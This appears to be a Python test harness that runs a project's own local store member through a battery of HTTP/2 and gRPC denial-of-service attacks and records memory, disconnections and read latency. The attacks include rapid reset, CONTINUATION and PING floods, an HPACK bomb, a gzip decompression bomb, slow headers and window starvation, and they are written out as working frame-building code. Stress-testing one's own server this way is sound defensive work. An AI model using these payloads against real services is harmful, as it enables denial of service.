"""One attack after the other at a member of a real ensemble, while another program reads from the same member.

    python attacks.py [name ...] [--seconds 8]

Prints a table: how often the attacker was hung up on and after how much, the member's memory before and at its highest,
and how long reads took beside the attack, compared with no attack. An attacker that is hung up on comes back at once.
"""
import argparse
import gzip
import json
import os
import pathlib
import re
import socket
import statistics
import subprocess
import sys
import threading
import time

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[2] / "IntegrationTests" / "python"))
from ensemble import Client, Ensemble, binary  # noqa: E402
from wire import (  # noqa: E402
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, PRIORITY, RST_STREAM, SETTINGS, START,
    WINDOW_UPDATE, call, call_fields, fields, frame)

MESSAGE_MAX = 4 << 20


class Attacker:
    """Connects again and again; `attack` sends on one connection until that is closed or the time is over."""

    def __init__(self, port, seconds):
        self.port = port
        self.end = time.monotonic() + seconds
        self.sent = 0
        self.lasted = []  # bytes that a connection took until it was closed
        self.open = []

    def connect(self, start=START):
        # An address of its own: the member keeps out those that attack it again and again.
        connection = socket.create_connection(("127.0.0.1", self.port), timeout=5, source_address=("127.0.0.2", 0))
        connection.settimeout(0.5)
        connection.sendall(start)
        return connection

    @property
    def goes_on(self):
        return time.monotonic() < self.end

    def flood(self, pieces, start=START):
        """`pieces`: makes an endless iterator of bytes for each connection."""
        while self.goes_on:
            before = self.sent
            try:
                with self.connect(start) as connection:
                    reader = threading.Thread(target=self.read, args=(connection,), daemon=True)
                    reader.start()
                    for piece in pieces():
                        connection.sendall(piece)
                        self.sent += len(piece)
                        if not self.goes_on:
                            return
                    reader.join()
            except TimeoutError:
                # Nobody reads any more, which is an answer too.
                while self.goes_on and not self.is_closed(connection):
                    time.sleep(0.1)
            except OSError:
                pass
            self.lasted.append(self.sent - before)

    @staticmethod
    def read(connection):
        try:
            while connection.recv(1 << 16):
                pass
            connection.close()
        except (OSError, ValueError):
            pass

    @staticmethod
    def is_closed(connection):
        try:
            return connection.recv(1, socket.MSG_PEEK | socket.MSG_DONTWAIT) == b""
        except BlockingIOError:
            return False
        except OSError:
            return True

    def hold(self, count, start=START):
        """Opens connections and keeps them."""
        for _ in range(count):
            try:
                self.open.append(self.connect(start))
            except OSError:
                break
        while self.goes_on:
            time.sleep(0.2)
        self.lasted += [0 for connection in self.open if self.is_closed_after_reading(connection)]

    def is_closed_after_reading(self, connection):
        connection.setblocking(False)
        try:
            while connection.recv(1 << 16):
                pass
            return True
        except BlockingIOError:
            return False
        except OSError:
            return True


def forever(*frames, times=500):
    piece = b"".join(frames) * times
    while True:
        yield piece


def each_stream(make, batch=100):
    stream = 1
    while stream < 1 << 30:
        yield b"".join(make(s) for s in range(stream, stream + 2 * batch, 2))
        stream += 2 * batch


def opened(stream=1):
    return frame(HEADERS, END_HEADERS, stream, call_fields())


def continuation_flood():
    yield frame(HEADERS, 0, 1, call_fields())
    yield from forever(frame(CONTINUATION, 0, 1, fields([(b"x", b"y" * 100)])))


def hpack_bomb():
    """One long field goes into the table of the decoder, and is then named as often as fits into a block."""
    value = b"v" * 4000
    name = b"\x40\x01a\x7f" + bytes([(len(value) - 127) % 128 + 128, (len(value) - 127) // 128]) + value
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, call_fields() + name)
    stream = 3
    while True:
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, call_fields() + b"\xbe" * 15_000)
        stream += 2


def slow_headers():
    yield frame(HEADERS, 0, 1, call_fields())
    while True:
        time.sleep(0.3)
        yield frame(CONTINUATION, 0, 1, fields([(b"x", b"y")]))


def decompression_bomb():
    zeros = gzip.compress(b"\0" * (64 << 20))
    message = b"\1" + len(zeros).to_bytes(4, "big") + zeros
    block = call_fields(b"/roost.v1.Store/Get", (b"grpc-encoding", b"gzip"))

    def made(stream):
        parts = [message[at:at + 16_000] for at in range(0, len(message), 16_000)]
        return frame(HEADERS, END_HEADERS, stream, block) + b"".join(
            frame(DATA, END_STREAM if part is parts[-1] else 0, stream, part) for part in parts)

    for piece in each_stream(made, batch=1):
        yield piece
        # What the windows allow; the answers are read elsewhere.
        yield frame(WINDOW_UPDATE, 0, 0, (1 << 20).to_bytes(4, "big"))
        time.sleep(0.01)


def slow_bodies(attacker):
    """Messages of the longest length on many streams, of which a byte comes now and then."""
    head = b"\0" + MESSAGE_MAX.to_bytes(4, "big")
    for _ in range(50):
        connection = attacker.connect()
        for stream in range(1, 41, 2):
            connection.sendall(opened(stream) + frame(DATA, 0, stream, head + b"x" * 10_000))
        attacker.open.append(connection)
    while attacker.goes_on:
        for connection in attacker.open:
            connection.sendall(frame(DATA, 0, 1, b"x"))
        time.sleep(0.2)


def window_zero(attacker):
    """Asks for long answers and takes none of them."""
    shut = PREFACE + frame(SETTINGS, 0, 0, (4).to_bytes(2, "big") + (0).to_bytes(4, "big"))
    for _ in range(20):
        connection = attacker.connect(shut)
        for stream in range(1, 2001, 2):
            body = b"\x0a\x04/big"
            connection.sendall(call(stream, body=body))
        attacker.open.append(connection)
    while attacker.goes_on:
        time.sleep(0.2)


ATTACKS = {
    "rapid reset": lambda a: a.flood(lambda: each_stream(
        lambda s: call(s) + frame(RST_STREAM, 0, s, (8).to_bytes(4, "big")))),
    "MadeYouReset": lambda a: a.flood(lambda: each_stream(
        lambda s: opened(s) + frame(WINDOW_UPDATE, 0, s, bytes(4)))),
    "CONTINUATION flood": lambda a: a.flood(continuation_flood),
    "PING flood": lambda a: a.flood(lambda: forever(frame(PING, 0, 0, bytes(8)))),
    "SETTINGS flood": lambda a: a.flood(lambda: forever(frame(SETTINGS, 0, 0))),
    "PRIORITY flood": lambda a: a.flood(lambda: forever(frame(PRIORITY, 0, 1, bytes(4) + b"\1"))),
    "empty DATA flood": lambda a: a.flood(lambda: forever(frame(DATA, 0, 1)), START + opened()),
    "WINDOW_UPDATE flood": lambda a: a.flood(lambda: forever(frame(WINDOW_UPDATE, 0, 0, (1).to_bytes(4, "big")))),
    "HPACK bomb": lambda a: a.flood(hpack_bomb),
    "decompression bomb": lambda a: a.flood(decompression_bomb),
    "slow headers": lambda a: a.flood(slow_headers),
    "slow bodies, 1,000 streams": slow_bodies,
    "window of 0, 20,000 calls": window_zero,
    "1,000 half-open": lambda a: a.hold(1_000, b""),
    "9,900 idle": lambda a: a.hold(9_900),
}


def attack(name, port, seconds):
    attacker = Attacker(port, seconds)
    try:
        ATTACKS[name](attacker)
    except OSError:
        pass
    print(json.dumps({"sent": attacker.sent, "lasted": attacker.lasted, "open": len(attacker.open)}), flush=True)


def memory(pid):
    text = pathlib.Path(f"/proc/{pid}/status").read_text()
    return int(re.search(r"VmRSS:\s+(\d+) kB", text).group(1)) / 1024


def latency(address, seconds):
    """Microseconds of a read: the median, and of a hundred the slowest."""
    done = subprocess.run(
        [binary(), "bench", "--members", address, "--connections", "2", "--outstanding", "1", "--workload", "read",
         "--keys", "10", "--warm-up", "0.5", "--seconds", str(seconds)], capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    told = json.loads(done.stdout.splitlines()[-1])
    assert not told.get("errors"), told
    return told["p50_us"], told["p99_us"]


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("names", nargs="*", default=list(ATTACKS))
    parser.add_argument("--seconds", type=float, default=8)
    parser.add_argument("--port", type=int, help=argparse.SUPPRESS)
    options = parser.parse_args()
    if options.port:
        return attack(options.names[0], options.port, options.seconds)
    print("| attack | hung up on | after bytes | memory before, highest (MiB) | read beside it: p50, p99 | x p50 |")
    print("|---|---|---|---|---|---|")
    with Ensemble() as ensemble:
        ensemble.wait_ready()
        member = next(m for m in (1, 2, 3) if m != ensemble.leader())
        client = Client(ensemble, member, timeout=10)
        client.create("/big", b"x" * (1 << 20))
        address, port, pid = ensemble.address(member), ensemble.client_ports[member], ensemble.processes[member].pid
        for name in options.names:
            calm = latency(address, 2)
            before = memory(pid)
            running = subprocess.Popen(
                [sys.executable, __file__, name, "--port", str(port), "--seconds", str(options.seconds)],
                stdout=subprocess.PIPE, text=True, preexec_fn=lambda: os.nice(5))
            highest = [before]
            stopping = threading.Event()

            def watch():
                while not stopping.wait(0.05):
                    highest.append(memory(pid))

            watcher = threading.Thread(target=watch)
            watcher.start()
            time.sleep(1)
            beside = latency(address, max(2, options.seconds - 4))
            told = json.loads(running.communicate(timeout=options.seconds + 60)[0])
            stopping.set()
            watcher.join()
            assert client.get("/big").data == b"x" * (1 << 20)
            lasted = told["lasted"]
            after = f"{statistics.median(lasted):,.0f}" if lasted else ""
            print(f"| {name} | {len(lasted)} times | {after} | {before:.0f}, {max(highest):.0f} | "
                  f"{beside[0]:.0f}, {beside[1]:.0f} us | {beside[0] / calm[0]:.2f} |", flush=True)
        client.close()


if __name__ == "__main__":
    main()
